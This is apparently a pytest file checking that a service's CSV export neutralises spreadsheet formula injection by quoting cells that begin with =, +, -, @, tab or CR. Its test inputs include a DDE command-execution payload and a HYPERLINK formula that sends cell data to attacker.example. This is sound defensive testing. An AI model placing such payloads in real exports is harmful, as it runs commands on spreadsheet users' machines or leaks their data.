"""CSV export cells a spreadsheet would run as formulas (audit N12, OWASP "CSV injection"): node ids
are chosen by account keys, so a cell starting with = + - @ tab or CR gets a leading quote.
The rendering function under test is the one the usage endpoint calls for Accept: text/csv."""

from __future__ import annotations

import csv
import io

import orjson
import pytest

from service.api.export import CSV, NDJSON, export_response

AUDIT_NODES = ["+cmd|' /C calc'!A0", "-2+3", '=HYPERLINK("http://attacker.example/?"&A1,"Click")', "@SUM(1+1)",
               "\tTAB", "\rCR"]
TS = "2026-12-07T22:00:00Z"


def csv_rows(nodes: list[str]) -> list[list[str]]:
    resp = export_response(CSV, [(n, TS, [1, 0, 1]) for n in nodes], by_node=True)
    return list(csv.reader(io.StringIO(bytes(resp.body).decode(), newline="")))


@pytest.mark.parametrize("node", AUDIT_NODES)
def test_formula_cells_are_neutralised(node: str) -> None:
    header, row = csv_rows([node])
    assert header == ["node_id", "ts", "bytes_in", "bytes_out", "requests"]
    assert row == ["'" + node, TS, "1", "0", "1"]  # the text kept whole, shown as text


@pytest.mark.parametrize("node", ["edge-1", "1+1", "a=b", "x@y", "'quoted", "n-1"])
def test_ordinary_cells_are_unchanged(node: str) -> None:
    assert csv_rows([node])[1][0] == node


def test_ndjson_is_unchanged() -> None:
    resp = export_response(NDJSON, [(n, TS, [1, 0, 1]) for n in AUDIT_NODES], by_node=True)
    lines = [orjson.loads(line) for line in bytes(resp.body).splitlines()]
    assert [line["node_id"] for line in lines] == AUDIT_NODES
